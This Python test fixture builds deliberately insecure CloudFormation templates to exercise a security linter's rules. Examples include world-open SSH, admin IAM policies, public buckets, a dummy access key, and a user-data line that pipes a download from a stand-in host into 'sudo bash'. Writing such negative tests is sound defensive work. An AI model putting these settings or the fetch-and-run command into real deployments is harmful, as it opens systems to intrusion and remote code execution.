"""Bad CloudFormation templates, one for each rule: ours with one thing spoiled."""

from tests.unit.marketplace_stage import Change, add, drop, put

_GROUP = "Resources.BalancerGroup.Properties.SecurityGroupIngress"
_ROLE = "Resources.Role.Properties"
_STATEMENT = f"{_ROLE}.Policies[0].PolicyDocument.Statement"
_DATA = "Resources.LaunchTemplate.Properties.LaunchTemplateData"
_EBS = f"{_DATA}.BlockDeviceMappings[0].Ebs"
_SCRIPT = f"{_DATA}.UserData"
_TARGET = "Resources.Target443.Properties"
_KEY = "AKIA" + "ABCDEFGHIJKLMNOP"
_CLOSED = {"BlockPublicAcls": True, "BlockPublicPolicy": True, "IgnorePublicAcls": True,
           "RestrictPublicBuckets": True}  # fmt: skip


def _ingress(first: int, last: int, cidr: str = "0.0.0.0/0") -> dict[str, object]:
    return {"IpProtocol": "tcp", "FromPort": first, "ToPort": last, "CidrIp": cidr}


def _allow(**more: object) -> dict[str, object]:
    return {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*", **more}


def _secret(name: str = "AdminPassword", **more: object) -> Change:
    return put(f"Parameters.{name}", {"Type": "String", "MaxLength": 9, "Description": "x", **more})


def _both(first: Change, second: Change) -> Change:
    return lambda document: second(first(document))


_HIDDEN = _secret(NoEcho=True)
AWS: tuple[tuple[str, str, Change], ...] = (
    ("AWS-01", "SSH open", add(_GROUP, _ingress(22, 22))),
    ("AWS-01", "RDP within a range", add(_GROUP, _ingress(3000, 4000, "0.0.0.0/0"))),
    ("AWS-01", "SSH by any protocol", add(_GROUP, {"IpProtocol": "-1", "CidrIp": "0.0.0.0/0"})),
    ("AWS-01", "SSH open over IPv6",
     add(_GROUP, {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIpv6": "::/0"})),
    ("AWS-01", "SSH open by a default", put("Parameters.SshCidr.Default", "0.0.0.0/0")),
    ("AWS-02", "all ports open", add(_GROUP, _ingress(0, 65535))),
    ("AWS-03", "world by default", put("Parameters.ClientCidr.Default", "0.0.0.0/0")),
    ("AWS-04", "any action", add(_STATEMENT, _allow(Action="*"))),
    ("AWS-04", "any action of a service", add(_STATEMENT, _allow(Action=["s3:*"]))),
    ("AWS-04", "all but a few", add(_STATEMENT, {"Effect": "Allow", "NotAction": "iam:*",
                                                 "Resource": "arn:x"})),
    ("AWS-05", "any resource", add(_STATEMENT, _allow())),
    ("AWS-05", "metrics of any name space", drop(f"{_STATEMENT}[0].Condition")),
    ("AWS-06", "administrator", put(f"{_ROLE}.ManagedPolicyArns",
                                    [{"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/"
                                      "AdministratorAccess"}])),
    ("AWS-06", "everything of S3", put(f"{_ROLE}.ManagedPolicyArns",
                                       ["arn:x:iam::aws:policy/AmazonS3FullAccess"])),
    ("AWS-07", "the seller's account", put(
        f"{_ROLE}.AssumeRolePolicyDocument.Statement[0].Principal",
        {"AWS": "arn:x:iam::123456789012:root"})),
    ("AWS-07", "anybody", put(f"{_ROLE}.AssumeRolePolicyDocument.Statement[0].Principal", "*")),
    ("AWS-08", "an access key", put("Resources.Key", {"Type": "AWS::IAM::AccessKey",
                                                      "Properties": {"UserName": "x"}})),
    ("AWS-09", "public bucket", put("Resources.Files", {
        "Type": "AWS::S3::Bucket", "Properties": {
            "AccessControl": "PublicRead", "PublicAccessBlockConfiguration": _CLOSED}})),
    ("AWS-09", "bucket without a block", put("Resources.Files", {"Type": "AWS::S3::Bucket"})),
    ("AWS-10", "policy for everybody", put("Resources.Policy", {
        "Type": "AWS::S3::BucketPolicy", "Properties": {"PolicyDocument": {
            "Statement": {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                          "Resource": "arn:x"}}}})),
    ("AWS-11", "public database", put("Resources.Db", {
        "Type": "AWS::RDS::DBInstance",
        "Properties": {"PubliclyAccessible": True, "StorageEncrypted": True}})),
    ("AWS-11", "plain database", put("Resources.Db", {"Type": "AWS::RDS::DBInstance"})),
    ("AWS-20", "plain volume", put(f"{_EBS}.Encrypted", False)),
    ("AWS-20", "second volume without a word", put("Resources.More", {
        "Type": "AWS::EC2::Volume", "Properties": {"Size": 8}})),
    ("AWS-21", "volume as the image has it", drop(f"{_DATA}.BlockDeviceMappings")),
    ("AWS-22", "old volume", put(f"{_EBS}.VolumeType", "gp2")),
    ("AWS-23", "IMDSv1", put(f"{_DATA}.MetadataOptions.HttpTokens", "optional")),
    ("AWS-23", "nothing said of it", drop(f"{_DATA}.MetadataOptions")),
    ("AWS-23", "instance without a template",
     drop("Resources.Appliance.Properties.LaunchTemplate")),
    ("AWS-24", "hop limit", put(f"{_DATA}.MetadataOptions.HttpPutResponseHopLimit", 2)),
    ("AWS-25", "password in user data",
     put(_SCRIPT, {"Fn::Base64": "#!/bin/sh\nDB_PASSWORD=hunter22\n"})),
    ("AWS-25", "secret parameter in user data", _both(
        _HIDDEN, put(_SCRIPT, {"Fn::Base64": {"Fn::Sub": "echo ${AdminPassword}"}}))),
    ("AWS-26", "fetched and run",
     put(_SCRIPT, {"Fn::Base64": "#!/bin/sh\ncurl -s https://x.example/i | sudo bash\n"})),
    ("AWS-27", "a port is no health", put(f"{_TARGET}.HealthCheckProtocol", "TCP")),
    ("AWS-27", "no page", drop(f"{_TARGET}.HealthCheckPath")),
    ("AWS-28", "nobody looks", _both(drop("Resources.Target443"), drop("Resources.Target8443"))),
    ("AWS-29", "nobody waits", drop("Resources.SetupEnded")),
    ("AWS-29", "the machine does not know whom to tell",
     put(_SCRIPT, {"Fn::Base64": "#cloud-config\n"})),
    ("AWS-29", "the stack waits for another handle", _both(
        put("Resources.Other", {"Type": "AWS::CloudFormation::WaitConditionHandle"}),
        put("Resources.SetupEnded.Properties.Handle", {"Ref": "Other"}))),
    ("AWS-29", "the handle is none",
     put("Resources.SetupEnded.Properties.Handle", {"Ref": "LogGroup"})),
    ("AWS-29", "a creation policy that waits for nobody", _both(
        drop("Resources.SetupEnded"),
        put("Resources.Appliance.CreationPolicy", {"ResourceSignal": {}}))),
    ("AWS-30", "public address", put(
        f"{_DATA}.NetworkInterfaces", [{"AssociatePublicIpAddress": True}])),
    ("AWS-31", "launch configuration", put("Resources.Old", {
        "Type": "AWS::AutoScaling::LaunchConfiguration"})),
    ("AWS-32", "image written out", put(f"{_DATA}.ImageId", "ami-0123456789abcdef0")),
    ("AWS-33", "logs for ever", drop("Resources.LogGroup.Properties.RetentionInDays")),
    ("AWS-34", "seller's key pair", put(f"{_DATA}.KeyName", "our-key")),
    ("AWS-40", "password shown", _secret()),
    ("AWS-41", "password by default", _secret(NoEcho=True, Default="")),
    ("AWS-42", "password told", _both(
        _HIDDEN, put("Outputs.Password", {"Value": {"Ref": "AdminPassword"}}))),
    ("AWS-43", "access key", put("Resources.LogGroup.Properties.LogGroupName", _KEY)),
    ("AWS-44", "no interface", drop("Metadata")),
    ("AWS-44", "parameter in no group", put("Parameters.More", {
        "Type": "Number", "Description": "x"})),
    ("AWS-45", "any text", drop("Parameters.KeyName.MaxLength")),
    ("AWS-46", "no description", drop("Parameters.VpcId.Description")),
    ("AWS-47", "region written out",
     put("Resources.Appliance.Properties.AvailabilityZone", "eu-west-1a")),
    ("AWS-48", "partition written out",
     put(f"{_STATEMENT}[1].Resource", "arn:aws:logs:::log-group:x")),
    ("AWS-49", "two images", put("Parameters.Second", {
        "Type": "AWS::EC2::Image::Id", "Description": "x"})),
    ("AWS-50", "macro", put("Transform", "AWS::LanguageExtensions")),
    ("AWS-50", "nested stack", put("Resources.More", {"Type": "AWS::CloudFormation::Stack"})),
    ("AWS-50", "custom resource", put("Resources.More", {"Type": "Custom::Thing"})),
    ("AWS-51", "misspelt", put(f"{_DATA}.ImageId", {"Ref": "ImageID"})),
    ("AWS-51", "misspelt in a text",
     put("Outputs.Claim.Value", {"Fn::Sub": "${AWS::StackName} ${Nothing.Arn}"})),
    ("AWS-52", "asked in vain", put("Parameters.More", {"Type": "Number", "Description": "x"})),
    ("AWS-53", "unknown part", put("Resource", {})),
    ("AWS-53", "no description", drop("Description")),
    ("AWS-54", "dynamic reference",
     put("Parameters.KeyName.Default", "{{resolve:ssm:/other/secret}}")),
)  # fmt: skip
